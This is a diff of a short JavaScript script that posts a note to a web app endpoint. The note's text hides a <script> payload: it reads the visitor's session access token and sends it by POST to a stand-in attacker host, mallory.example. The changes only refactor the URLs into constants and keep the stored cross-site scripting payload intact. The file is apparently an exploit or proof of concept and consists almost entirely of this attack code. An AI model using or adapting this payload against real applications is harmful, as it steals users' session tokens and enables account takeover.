@@ -2,15 +2,18 @@
 import { send } from '../http.js';
 
 //#region note
+const loot = 'https://mallory.example:8443/loot';
 const script = `
   fetch('/session/token')
     .then((answer) => answer.json())
-    .then(({ access_token }) => fetch('https://mallory.example:8443/loot', { method: 'POST', body: access_token }));`;
+    .then(({ access_token: body }) =>
+      fetch('${loot}', { method: 'POST', body }));`;
 
 const body = new URLSearchParams({
   author: 'Miller & Sons',
   note: `The flour comes on Monday.<script>${script}</script>`,
 });
-const { status } = await send('https://app.tally.example:8443/notes', { method: 'POST', body });
+const address = 'https://app.tally.example:8443/notes';
+const { status } = await send(address, { method: 'POST', body });
 //#endregion
 console.log(`POST /notes: ${status}`);
